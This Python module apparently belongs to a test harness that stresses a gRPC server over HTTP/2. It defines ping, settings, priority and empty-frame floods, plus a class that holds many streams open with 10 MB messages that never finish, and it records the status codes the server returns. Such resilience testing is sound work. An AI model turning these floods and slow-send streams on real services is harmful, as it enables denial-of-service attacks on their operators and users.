"""What comes in masses over HTTP/2: frames without a call, and messages without an end."""

import ssl
import struct
from collections import Counter
from collections.abc import Callable

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ResponseReceived, StreamEnded, StreamReset, TrailersReceived
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
)

from attacks.frames import call_headers, headers_frame
from attacks.wire import connection_to

MEGABYTE = 1024 * 1024
MOST = 10 * MEGABYTE
NOTIFY = "/tocsin.v1.WebhookService/NotifyObjectStorage"

FLOODS: dict[str, Callable[[int], bytes]] = {
    "pings": lambda number: PingFrame(0, number.to_bytes(8)).serialize(),
    "settings": lambda number: SettingsFrame(
        0, {SettingsFrame.MAX_CONCURRENT_STREAMS: number}
    ).serialize(),
    "priorities": lambda _: PriorityFrame(1, stream_weight=1).serialize(),
    "empty headers": lambda number: (
        ContinuationFrame(1).serialize() if number else HeadersFrame(1, b"\x82").serialize()
    ),
    "empty data": lambda number: (
        DataFrame(1).serialize()
        if number
        else headers_frame(1, call_headers("/grpc.health.v1.Health/Check"), ends=False)
    ),
}


class Unfinished:
    """A connection with calls whose messages of 10 MB lack their last bytes."""

    def __init__(self, address: str, number: int, context: ssl.SSLContext | None = None) -> None:
        self.statuses: Counter[str] = Counter()
        self._socket = connection_to(address)
        if context is not None:
            context.set_alpn_protocols(["h2"])
            self._socket = context.wrap_socket(self._socket, server_hostname="localhost")
        self._socket.settimeout(0.02)
        self._h2 = H2Connection(H2Configuration(header_encoding="utf-8"))
        self._h2.initiate_connection()
        self._left: dict[int, int] = {}
        for _ in range(number):
            stream = self._h2.get_next_available_stream_id()
            self._h2.send_headers(stream, call_headers(NOTIFY))
            self._h2.send_data(stream, struct.pack(">BI", 0, MOST))
            self._left[stream] = MOST - 100

    def close(self) -> None:
        self._socket.close()

    def go_on(self) -> None:
        """Sends what the server takes of the messages, and hears what it says."""
        for stream, left in self._left.items():
            size = min(left, 16_000, self._h2.local_flow_control_window(stream))
            if size > 0:
                self._h2.send_data(stream, bytes(size))
                self._left[stream] -= size
        self._send()
        try:
            received = self._socket.recv(MEGABYTE)
        except TimeoutError:
            return
        for event in self._h2.receive_data(received):
            if isinstance(event, ResponseReceived | TrailersReceived):
                self.statuses[dict(event.headers).get("grpc-status", "")] += 1
            if isinstance(event, StreamEnded | StreamReset):
                self._left.pop(event.stream_id, None)
        self._send()

    def _send(self) -> None:
        if sent := self._h2.data_to_send():
            self._socket.settimeout(30)
            self._socket.sendall(sent)
            self._socket.settimeout(0.02)
